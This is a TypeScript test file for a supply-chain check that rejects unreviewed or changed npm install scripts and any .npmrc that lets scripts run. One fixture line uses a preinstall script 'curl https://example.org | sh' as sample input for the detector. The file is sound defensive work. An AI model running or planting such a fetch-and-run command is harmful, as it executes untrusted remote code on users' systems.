import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { installScriptFaults } from '../../../../scripts/supply-chain/install-script-faults.ts'
import type { ReviewedScript } from '../../../../scripts/supply-chain/install-script-faults.ts'
import type { LockEntry } from '../../../../scripts/supply-chain/npm-lock.ts'
import { tempDir } from '../../../support/temp-dir.ts'

const NPMRC = 'fund=false\nignore-scripts=true\n'
const REVIEWED: ReviewedScript = { name: 'a', script: 'node build.js', whyNotNeeded: 'The build comes as a package of its own.' }

interface Installed {
  readonly entry?: LockEntry
  readonly scripts?: Readonly<Record<string, string>>
  readonly hasBuildFile?: boolean
  readonly npmrc?: string
}

/** The faults of a checkout with the package `a` in it, its script being reviewed. */
function faultsOf(reviewed: readonly ReviewedScript[], installed: Installed): readonly string[] {
  const { entry = {}, scripts, hasBuildFile = false, npmrc = NPMRC } = installed
  const root = tempDir()
  const folder = join(root, 'node_modules/a')
  mkdirSync(folder, { recursive: true })
  if (scripts !== undefined) writeFileSync(join(folder, 'package.json'), JSON.stringify({ scripts }))
  else writeFileSync(join(folder, 'package.json'), '{}')
  if (hasBuildFile) writeFileSync(join(folder, 'binding.gyp'), '{}')
  return installScriptFaults({ lockfileVersion: 3, packages: { '': {}, 'node_modules/a': entry } }, reviewed, { npmrc, root })
}

describe('installScriptFaults', () => {
  it('takes a script that was reviewed, and a package without one', () => {
    expect(faultsOf([REVIEWED], { entry: { hasInstallScript: true }, scripts: { postinstall: 'node build.js' } })).toEqual([])
    expect(faultsOf([], { scripts: { test: 'vitest' } })).toEqual([])
  })

  it.each([
    ['the lock file tells', { entry: { hasInstallScript: true } }],
    ['only the package itself tells', { scripts: { preinstall: 'curl https://example.org | sh' } }],
    ['npm runs without being told to', { hasBuildFile: true }],
  ])('refuses a new script that %s', (_what, installed) => {
    expect(faultsOf([], installed)).toEqual([expect.stringContaining('that nobody has reviewed')])
  })

  it('refuses a reviewed package whose script has changed', () => {
    expect(faultsOf([REVIEWED], { scripts: { postinstall: 'node other.js' } })).toEqual([
      'node_modules/a brings another install script than the one reviewed: node other.js, not node build.js',
    ])
  })

  it('asks for a review to be taken away when its script has gone', () => {
    expect(faultsOf([REVIEWED], {})).toEqual([expect.stringContaining('a brings no install script any more')])
  })

  it.each(['', 'ignore-scripts=false\n', '# ignore-scripts=true\n', 'ignore-scripts=true\nignore-scripts=false\n'])(
    'refuses an .npmrc that lets scripts run: %j',
    (npmrc) => {
      expect(faultsOf([], { npmrc })).toEqual(['.npmrc must say ignore-scripts=true'])
    },
  )
})
